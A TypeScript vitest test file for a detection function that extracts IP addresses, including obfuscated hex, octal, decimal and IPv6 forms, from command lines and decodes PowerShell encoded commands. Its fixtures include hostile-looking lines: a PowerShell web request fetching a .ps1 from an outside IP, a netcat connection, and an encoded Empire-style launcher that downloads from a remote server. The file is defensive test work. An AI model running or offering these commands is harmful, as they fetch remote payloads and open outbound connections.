import { describe, expect, it } from 'vitest';
import { extractAddresses } from '../../src/detect/extractAddresses.js';

const addresses = (line: string): string[] => extractAddresses(line).map((a) => a.address);

describe('extractAddresses', () => {
  it('reports address, raw text, offset, encoding and kind for each literal, in order of offset', () => {
    expect(extractAddresses('ping 10.0.0.1 && curl http://0x2d099403/a')).toEqual([
      { address: '10.0.0.1', raw: '10.0.0.1', offset: 5, encoding: 'dotted', kind: 'private' },
      { address: '45.9.148.3', raw: '0x2d099403', offset: 29, encoding: 'hex', kind: 'external' },
    ]);
  });

  it('finds every address on a line, not only the first', () => {
    expect(addresses('copy x \\\\8.8.4.4\\s & ping 9.9.9.9 & ping 1.1.1.1')).toEqual(['8.8.4.4', '9.9.9.9', '1.1.1.1']);
  });

  it('reports a repeated address once per occurrence', () => {
    expect(addresses('ping 8.8.8.8 & ping 8.8.8.8')).toEqual(['8.8.8.8', '8.8.8.8']);
  });

  it('finds addresses in URL, UNC, host:port, user@host, key=value and quoted positions', () => {
    expect(addresses('iwr http://45.67.89.123/p.ps1')).toEqual(['45.67.89.123']);
    expect(addresses('type \\\\45.67.89.123\\c$\\x')).toEqual(['45.67.89.123']);
    expect(addresses('nc 45.67.89.123:443')).toEqual(['45.67.89.123']);
    expect(addresses('ssh root@45.67.89.123')).toEqual(['45.67.89.123']);
    expect(addresses('x connectaddress=45.67.89.123')).toEqual(['45.67.89.123']);
    expect(addresses("x '45.67.89.123'")).toEqual(['45.67.89.123']);
    expect(addresses('echo 45.67.89.123>f,45.67.89.124')).toEqual(['45.67.89.123', '45.67.89.124']);
  });

  it('keeps a trailing sentence dot out of the address', () => {
    expect(extractAddresses('ping 8.8.8.8.')[0]).toMatchObject({ address: '8.8.8.8', raw: '8.8.8.8' });
  });

  it('skips version strings, OIDs, invalid octets and zero-padded parts', () => {
    for (const line of [
      'C:\\WindowsAzure\\WindowsAzureNetAgent_1.0.0.178\\WindowsAzureNetAgent.exe',
      'update.exe 1.3.00.217',
      'choco install x --version 1.2.3.4',
      'pip install x==1.2.3.4',
      'java -jar lib-2.3.4.5.jar',
      'certutil -dump 1.3.6.1.4.1.311',
      'ping 256.1.2.3',
      '"C:\\Program Files\\App\\5.4.3.2\\app.exe"',
      'Install-Module Az -RequiredVersion 11.1.0.0',
      'ping 8.8.8.8.nip.io',
    ]) {
      expect(addresses(line), line).toEqual([]);
    }
  });

  it('does not take a word ending in "ver" (like -server) for a version keyword', () => {
    expect(addresses('x -server 45.67.89.123')).toEqual(['45.67.89.123']);
  });

  it('reads IPv6 in compressed, full, bracketed, zone-id and IPv4-mapped forms', () => {
    expect(extractAddresses('curl http://[2606:4700:4700::1111]:8080/')[0]).toMatchObject({
      address: '2606:4700:4700::1111',
      offset: 13,
      encoding: 'ipv6',
      kind: 'external',
    });
    expect(addresses('ping 2001:4860:4860:0000:0000:0000:0000:8888')).toEqual(['2001:4860:4860::8888']);
    expect(extractAddresses('ping fe80::1%eth0')[0]).toMatchObject({ address: 'fe80::1', raw: 'fe80::1%eth0', kind: 'link-local' });
    expect(extractAddresses('curl http://[::ffff:45.9.148.3]/')).toEqual([
      { address: '45.9.148.3', raw: '::ffff:45.9.148.3', offset: 13, encoding: 'ipv6', kind: 'external' },
    ]);
  });

  it('reads Windows ipv6-literal.net UNC hosts', () => {
    expect(extractAddresses('dir \\\\fe80--1s4.ipv6-literal.net\\c$')).toEqual([
      { address: 'fe80::1', raw: 'fe80--1s4.ipv6-literal.net', offset: 6, encoding: 'ipv6', kind: 'link-local' },
    ]);
    expect(addresses('copy \\\\2606-4700-4700--1111.IPV6-LITERAL.NET\\s x')).toEqual(['2606:4700:4700::1111']);
  });

  it('does not take PowerShell static member access or times for IPv6', () => {
    expect(addresses('[Convert]::FromBase64String($x); [Collections.ArrayList]::Add; at 12:30:45')).toEqual([]);
  });

  it('decodes hex, decimal, octal and short forms only in URL and UNC host position', () => {
    expect(extractAddresses('curl http://0133.0327.0125.021/')[0]).toMatchObject({ address: '91.215.85.17', encoding: 'octal' });
    expect(extractAddresses('curl http://193.42.8455/')[0]).toMatchObject({ address: '193.42.33.7', encoding: 'decimal' });
    expect(extractAddresses('dir \\\\3240763655\\c$')[0]).toMatchObject({ address: '193.42.33.7', encoding: 'decimal', raw: '3240763655' });
    expect(addresses('echo 0x2d099403 755602435')).toEqual([]);
    expect(addresses('curl http://0xdeadbeef.example.com/')).toEqual([]);
  });

  it('decodes PowerShell -EncodedCommand payloads and reports the payload offset', () => {
    const payload = Buffer.from("iwr http://45.9.148.3/a; ping 10.1.1.1", 'utf16le').toString('base64');
    const line = `powershell -nop -enc ${payload}`;
    expect(extractAddresses(line)).toEqual([
      { address: '45.9.148.3', raw: '45.9.148.3', offset: 21, encoding: 'encoded-command', kind: 'external' },
      { address: '10.1.1.1', raw: '10.1.1.1', offset: 21, encoding: 'encoded-command', kind: 'private' },
    ]);
    expect(extractAddresses(line, { decodeEncodedCommands: false })).toEqual([]);
  });

  it('decodes FromBase64String literals inside encoded commands (Empire launchers) with the outer payload offset', () => {
    const server = Buffer.from('http://45.9.148.3:8080', 'utf16le').toString('base64');
    const script = `$ser=$([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('${server}')));$wc.DownloadData($ser)`;
    const line = `powershell -w 1 -enc ${Buffer.from(script, 'utf16le').toString('base64')}`;
    expect(extractAddresses(line)).toEqual([{ address: '45.9.148.3', raw: '45.9.148.3', offset: 21, encoding: 'encoded-command', kind: 'external' }]);
  });

  it('ignores -e arguments that are not UTF-16LE base64', () => {
    expect(addresses('curl -e aHR0cDovLzQ1LjkuMTQ4LjMv https://example.com')).toEqual([]);
  });

  it('returns an empty list for empty and non-string input', () => {
    expect(extractAddresses('')).toEqual([]);
    expect(extractAddresses(undefined as unknown as string)).toEqual([]);
  });
});
